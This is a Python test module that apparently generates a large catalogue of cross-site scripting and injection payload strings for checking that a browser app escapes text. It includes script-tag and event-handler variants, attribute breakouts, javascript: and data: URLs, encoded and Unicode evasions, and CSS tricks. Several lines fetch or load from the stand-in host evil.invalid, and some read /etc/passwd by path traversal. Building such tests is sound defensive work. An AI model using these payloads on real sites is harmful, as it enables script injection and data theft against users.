"""Strings that run, load or compute something where text is written carelessly.

Families of them, each a known way out of the place that text belongs to: tags, attributes,
addresses, entities, style, drawings, template languages, data in scripts, feeds, spreadsheets.
Whatever runs calls `canary`, opens a dialog, or asks `evil.invalid` for something.
"""

from collections.abc import Iterator
from itertools import product

from tests.browser.injection_formats import data, drawings, feeds, formulas, markdown, templates

RUNS = ("canary()", "alert(1)", "fetch('https://evil.invalid/b')")
IMAGE = "<img src=x onerror=canary()>"
SCRIPT = "<script>canary()</script>"


def payloads() -> tuple[str, ...]:
    """List them all, each once, in a fixed order."""
    families = (_tags, _events, _breakouts, _addresses, _entities, _unicode, _styles, drawings)
    more = (templates, data, feeds, formulas, markdown)
    return tuple(dict.fromkeys(payload for family in (*families, *more) for payload in family()))


def _tags() -> Iterator[str]:
    for run in RUNS:
        yield f"<script>{run}</script>"
        yield f"<ScRiPt >{run}</sCrIpT >"
        yield f"<script type=module>{run}</script>"
        yield f"<scr<script>ipt>{run}</scr</script>ipt>"
        yield f"<script\n>{run}</script\n>"
        yield f"<script/x='>'>{run}</script>"
        yield f"<<script>{run}//<</script>"
    yield "<script src=//evil.invalid/x.js></script>"
    yield "<script src=data:,canary()></script>"
    yield '<script type="text/javascript" src="https://evil.invalid/x.js">'
    yield "<script async defer src='https://evil.invalid/x.js'></script>"
    yield '<iframe src="javascript:canary()"></iframe>'
    yield '<iframe srcdoc="<script>parent.canary()</script>"></iframe>'
    yield '<object data="javascript:canary()"></object>'
    yield '<embed src="https://evil.invalid/x.swf">'
    yield "<base href=https://evil.invalid/>"
    yield '<meta http-equiv="refresh" content="0;url=javascript:canary()">'
    yield '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">'
    yield "<link rel=stylesheet href=https://evil.invalid/x.css>"
    yield "<link rel=prefetch href=https://evil.invalid/x>"
    yield "<form action=javascript:canary()><button autofocus>x</button></form>"
    yield "<isindex action=javascript:canary() type=image>"
    yield "<frameset onload=canary()>"
    yield "<applet code=x></applet>"
    yield "<portal src=https://evil.invalid/>"
    yield "<xss id=x tabindex=1 onfocus=canary()></xss>"
    yield "<plaintext>"
    yield '<noscript><p title="</noscript><img src=x onerror=canary()>">'
    yield f"<template>{SCRIPT}</template>"
    yield "<dialog open onclose=canary()><form method=dialog><button>x</button></form></dialog>"


def _events() -> Iterator[str]:
    tags = (
        ("img src=x", "onerror"),
        ("img src=x:x", "onerror"),
        ("image src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("video src=x", "onerror"),
        ("video><source", "onerror"),
        ("audio src=x", "onerror"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("iframe src=x", "onload"),
        ("object data=x", "onerror"),
        ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("p style=animation-name:x", "onanimationstart"),
        ("a href=# tabindex=1", "onclick"),
        ("div", "onmouseover"),
        ("div", "onpointerenter"),
        ("svg><animate attributeName=x dur=1s", "onbegin"),
    )
    for (tag, event), run in product(tags, RUNS[:2]):
        yield f"<{tag} {event}={run}>"
    yield "<img/src=x/onerror=canary()>"
    yield "<img\tsrc=x\tonerror\t=\tcanary()>"
    yield '<img src="x" onerror="canary()">'
    yield "<img src='x' onerror='canary()'>"
    yield "<img src=`x` onerror=`canary()`>"
    yield '<img """><script>canary()</script>">'
    yield "<img src=x onerror=&#99;anary()>"
    yield "<img src=x onerror=\"window['can'+'ary']()\">"
    yield "<img src=https://evil.invalid/pixel.gif>"
    yield "<img srcset='https://evil.invalid/pixel.gif 1x'>"


def _breakouts() -> Iterator[str]:
    ends = (
        *('"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "*/", "\\", '\\"', "\\'", ">", "/>"),
        *("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>"),
        *("</svg>", "</math>", "</a>", "</p></div></main>", "</dd></dl>", "</table>", "<!--"),
        *("</head><body>", "</article></section>", "</button>", "</option></select>", "?>"),
    )
    for end in ends:
        yield f"{end}{IMAGE}"
        yield f"{end}{SCRIPT}"
    for quote in ('"', "'", ""):
        yield f"x{quote} onmouseover={quote}canary()"
        yield f"x{quote} autofocus onfocus={quote}canary()"
        yield f"x{quote} style={quote}background:url(https://evil.invalid/x)"
        yield f"x{quote} href={quote}javascript:canary()"
    yield "<!--[if gte IE 4]><script>canary()</script><![endif]-->"
    yield "<!--><img src=x onerror=canary()>-->"


def _addresses() -> Iterator[str]:
    for run in RUNS:
        yield f"javascript:{run}"
        yield f"JaVaScRiPt:{run}"
        yield f"javascript://%0a{run}"
        yield f"java\tscript:{run}"
        yield f" javascript:{run}"
        yield f"&#106;avascript:{run}"
        yield f"javascript&colon;{run}"
        yield f"java&Tab;script:{run}"
        yield f"vbscript:{run}"
        yield f"view-source:javascript:{run}"
    yield "data:text/html,<script>canary()</script>"
    yield "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg=="
    yield "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>"
    yield "blob:https://evil.invalid/x"
    yield "//evil.invalid/x"
    yield "\\\\evil.invalid\\x"
    yield "file:///etc/passwd"
    yield "../../../../etc/passwd"
    yield "https://a.example@evil.invalid/"
    yield 'https://a.example/"onmouseover="canary()'
    yield "https://a.example/'><script>canary()</script>"
    yield "feed:javascript:canary()"


def _entities() -> Iterator[str]:
    yield "&lt;script&gt;canary()&lt;/script&gt;"
    yield "&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;"
    yield "&#60;script&#62;canary()&#60;/script&#62;"
    yield "&#x3c;script&#x3e;canary()&#x3c;/script&#x3e;"
    yield "&#0000060script&#0000062canary()"
    yield "&lt;img src=x onerror=canary()&gt;"
    yield "%3Cscript%3Ecanary()%3C/script%3E"
    yield "%253Cscript%253Ecanary()%253C/script%253E"
    yield "\\u003cscript\\u003ecanary()\\u003c/script\\u003e"
    yield "\\x3cscript\\x3ecanary()\\x3c/script\\x3e"
    yield "\\74script\\76canary()\\74/script\\76"
    yield "+ADw-script+AD4-canary()+ADw-/script+AD4-"
    yield "&NewLine;<script>canary()</script>"
    yield "&quot;&gt;<script>canary()</script>"
    yield "&#34; onmouseover=canary() x=&#34;"
    yield "&apos;;canary();//"


def _unicode() -> Iterator[str]:
    yield "＜script＞canary()＜/script＞"
    yield "﹤script﹥canary()﹤/script﹥"
    yield "‹script›canary()‹/script›"
    yield "<\u017fcript>canary()</\u017fcript>"
    yield "<script>\u2028canary()\u2029</script>"
    yield "\u2028</script><script>canary()</script>"
    yield "<img src=x\u00a0onerror=canary()>"
    yield "<img src=x\u3000onerror=canary()>"
    yield "<i\u0307mg src=x onerror=canary()>"
    yield "\ufeff<script>canary()</script>"
    yield "<scr\u200bipt>canary()</scr\u200bipt>"
    yield "\u202e>tpircs/<)(yranac>tpircs<"
    yield "名称\u2066<script>canary()</script>\u2069"
    yield "𝒂𝒍𝒆𝒓𝒕<script>canary()</script>"
    yield "\u0131<\u212aimg src=x onerror=canary()>"


def _styles() -> Iterator[str]:
    yield "x; background: url(https://evil.invalid/x)"
    yield "x: expression(canary())"
    yield "</style><script>canary()</script>"
    yield "<style>@import 'https://evil.invalid/x.css';</style>"
    yield "<style>*{background:url(https://evil.invalid/x)}</style>"
    yield "<style>body{background:url('javascript:canary()')}</style>"
    yield "@import url(https://evil.invalid/x.css);"
    yield "*{}body{background:url(https://evil.invalid/x)}"
    yield "<div style='width:expression(canary())'>"
    yield "<div style=\"background-image:url('https://evil.invalid/x')\">"
    yield "<p style=behavior:url(#default#time2) onbegin=canary()>"
    yield "/*</style>*/<script>canary()</script>"
